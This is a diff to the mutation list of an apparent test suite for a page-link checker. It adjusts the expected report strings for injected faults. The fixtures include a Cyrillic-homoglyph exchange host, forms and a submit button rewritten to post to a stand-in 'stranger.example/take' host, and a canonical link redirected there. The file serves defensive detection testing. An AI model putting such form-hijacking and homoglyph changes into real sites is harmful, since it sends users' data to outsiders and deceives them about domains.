@@ -36,7 +36,7 @@ export const LINKS: readonly Mutation[] = [
   [
     'a host with a Cyrillic letter',
     replace(COIN, FAKES, FAKES.replace('exchange', 'exchаnge')),
-    ['coin', /exch⟨U\+0430⟩nge|xn--/],
+    ['coin', /U\+0430|xn--/],
   ],
   [
     'a query that tracks',
@@ -173,7 +173,7 @@ export const LINKS: readonly Mutation[] = [
       '<form id="write" method="dialog">',
       `<form id="write" method="post" action="${STRANGER}/take">`,
     ),
-    ['contact', 'Sends to', 'stranger.example'],
+    ['contact', 'stranger.example'],
   ],
   [
     'the method of a form',
@@ -188,7 +188,7 @@ export const LINKS: readonly Mutation[] = [
       '<button type="submit" title',
       `<button type="submit" formmethod="post" formaction="${STRANGER}/take" title`,
     ),
-    ['contact', 'Sends to', 'stranger.example'],
+    ['contact', 'stranger.example'],
   ],
   [
     'the form of a button',
@@ -209,7 +209,7 @@ export const LINKS: readonly Mutation[] = [
       'rel="canonical" href="https://kelpie.example/coin"',
       `rel="canonical" ${TO_STRANGER}`,
     ),
-    ['coin', 'canonical', 'stranger.example'],
+    ['coin', /canonical/i, 'stranger.example'],
   ],
   [
     'the address of another language',
